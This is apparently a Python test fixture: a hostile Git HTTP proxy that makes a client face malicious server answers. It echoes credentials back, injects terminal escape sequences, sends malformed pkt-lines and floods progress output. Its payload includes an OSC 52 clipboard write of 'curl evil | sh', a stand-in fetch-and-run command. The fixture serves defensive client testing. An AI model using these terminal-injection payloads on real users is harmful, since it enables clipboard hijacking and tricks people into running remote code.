#!/usr/bin/env python3
"""A hostile server in front of the test Hub (tests/testsuite/bounds_server.rs, issue 22).

Usage: hostile_git_proxy.py UPSTREAM MODE_FILE

Every request is relayed to UPSTREAM (the test Hub) unchanged, except those the mode (the text
of MODE_FILE, re-read on every request; absent or empty: relay everything) makes hostile:

    refs_403_echo   GET .../info/refs: 403 whose body echoes the Basic credential it was sent
                    (without `Basic `), among terminal escape sequences
    refs_err        GET .../info/refs: an advertisement holding only an `ERR` pkt-line with
                    escape sequences and the token split by an escape sequence and by a NUL
    refs_0003       GET .../info/refs: an advertisement holding a pkt-line of length 0003
    refs_many:N     GET .../info/refs?service=git-upload-pack: the real advertisement with N
                    more tags (`refs/tags/tNNNNNNN`), streamed
    push_hostile    POST .../git-receive-pack: the request is drained, the answer has hostile
                    side-band-2 text and refuses refs/heads/main with a hostile `ng` reason
    push_band3      POST .../git-receive-pack: a side-band-3 (fatal) message, hostile
    push_flood:MIB  POST .../git-receive-pack: relayed, after MIB MiB of side-band-2 progress
    api_hostile     /api/ requests: 400 with a JSON error message that is hostile

Prints `READY http://127.0.0.1:PORT` once listening.
"""

import base64
import http.client
import http.server
import sys
import urllib.parse

UPSTREAM = urllib.parse.urlsplit(sys.argv[1])
MODE_FILE = sys.argv[2]


def mode():
    try:
        with open(MODE_FILE) as f:
            return f.read().strip()
    except OSError:
        return ""


def pkt(data):
    if isinstance(data, str):
        data = data.encode("utf-8", "surrogateescape")
    return b"%04x" % (len(data) + 4) + data


def band(number, data):
    if isinstance(data, str):
        data = data.encode("utf-8", "surrogateescape")
    return pkt(bytes([number]) + data)


def token_of(headers):
    """The token the client sent: Basic hf_user:TOKEN or Bearer TOKEN."""
    auth = headers.get("Authorization") or ""
    scheme, _, value = auth.partition(" ")
    if scheme.lower() == "basic":
        try:
            return base64.b64decode(value).decode().partition(":")[2]
        except Exception:
            return ""
    return value


def hostile(token):
    """Terminal attacks and the token split so that it renders whole."""
    clip = base64.b64encode(b"curl evil | sh").decode()
    split = ""
    if token:
        split = (" split=" + token[:1] + "\x1b[0m" + token[1:]
                 + " nul=" + token[:8] + "\x00" + token[8:]
                 + " bs=" + token + "X\x08")
    return ("HOSTILE \x1b]0;pwned-title\x07\x1b[2J\x1b[H"
            "\x1b]52;c;" + clip + "\x07"
            "\x1b[8mconcealed\x1b[0m bel\x07 bs\x08 nul\x00 del\x7f c1\u009b31m"
            " bidi\u202eevil" + split + " END")


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def do_GET(self):
        self.dispatch()

    def do_POST(self):
        self.dispatch()

    def do_PUT(self):
        self.dispatch()

    def body(self):
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            data = b""
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                if size == 0:
                    self.rfile.readline()
                    return data
                data += self.rfile.read(size)
                self.rfile.readline()
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def answer(self, status, ctype, body):
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def start_chunked(self, status, headers):
        self.send_response(status)
        for name, value in headers:
            if name.lower() not in ("content-length", "transfer-encoding", "connection"):
                self.send_header(name, value)
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()

    def chunk(self, data):
        if data:
            self.wfile.write(b"%x\r\n" % len(data) + data + b"\r\n")

    def end_chunked(self):
        self.wfile.write(b"0\r\n\r\n")

    def upstream(self, body):
        conn = http.client.HTTPConnection(UPSTREAM.hostname, UPSTREAM.port, timeout=60)
        headers = {k: v for k, v in self.headers.items()
                   if k.lower() not in ("host", "transfer-encoding", "content-length")}
        headers["Content-Length"] = str(len(body))
        conn.request(self.command, self.path, body=body, headers=headers)
        return conn, conn.getresponse()

    def relay(self, body, prefix=b""):
        conn, response = self.upstream(body)
        self.start_chunked(response.status, response.getheaders())
        self.chunk(prefix)
        while True:
            data = response.read(64 * 1024)
            if not data:
                break
            self.chunk(data)
        self.end_chunked()
        conn.close()

    def dispatch(self):
        body = self.body()
        m = mode()
        path = self.path
        token = token_of(self.headers)
        refs = "/info/refs" in path
        service = "git-receive-pack" if "git-receive-pack" in path else "git-upload-pack"
        advert = "application/x-%s-advertisement" % service
        head = pkt("# service=%s\n" % service) + b"0000"
        if refs and m == "refs_403_echo":
            credential = (self.headers.get("Authorization") or "").partition(" ")[2]
            text = "forbidden " + hostile(token) + " bare: " + credential + "\n"
            return self.answer(403, "text/plain", text.encode("utf-8", "surrogateescape"))
        if refs and m == "refs_err":
            return self.answer(200, advert, head + pkt("ERR " + hostile(token)))
        if refs and m == "refs_0003":
            return self.answer(200, advert, head + b"0003")
        if refs and m.startswith("refs_many:") and service == "git-upload-pack":
            count = int(m.split(":")[1])
            conn, response = self.upstream(body)
            real = response.read()
            conn.close()
            # The real advertisement minus its final flush, then the tags, then the flush.
            self.start_chunked(response.status, response.getheaders())
            self.chunk(real[:-4])
            oid = "1" * 40
            batch = []
            for i in range(count):
                batch.append(pkt("%s refs/tags/t%08d\n" % (oid, i)))
                if len(batch) == 10000:
                    self.chunk(b"".join(batch))
                    batch = []
            self.chunk(b"".join(batch) + b"0000")
            return self.end_chunked()
        if path.endswith("/git-receive-pack") and m == "push_hostile":
            status = pkt("unpack ok\n") + pkt("ng refs/heads/main " + hostile(token) + "\n") + b"0000"
            answer = (band(2, hostile(token) + "\n") + band(2, "Counting: 100%\r\x1b[31mred\n")
                      + band(1, status) + b"0000")
            return self.answer(200, "application/x-git-receive-pack-result", answer)
        if path.endswith("/git-receive-pack") and m == "push_band3":
            answer = band(3, hostile(token) + "\n")
            return self.answer(200, "application/x-git-receive-pack-result", answer)
        if path.endswith("/git-receive-pack") and m.startswith("push_flood:"):
            mib = int(m.split(":")[1])
            conn, response = self.upstream(body)
            self.start_chunked(response.status, response.getheaders())
            line = band(2, ("Compressing objects: %3d%% " % 50) + "x" * 65000 + "\r")
            block = line * 16
            sent = 0
            while sent < mib * 1024 * 1024:
                self.chunk(block)
                sent += len(block)
            self.chunk(response.read())
            conn.close()
            return self.end_chunked()
        if path.startswith("/api/") and m == "api_hostile":
            import json
            text = json.dumps({"error": hostile(token)}).encode()
            return self.answer(400, "application/json", text)
        self.relay(body)


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print("READY http://127.0.0.1:%d" % server.server_address[1], flush=True)
server.serve_forever()
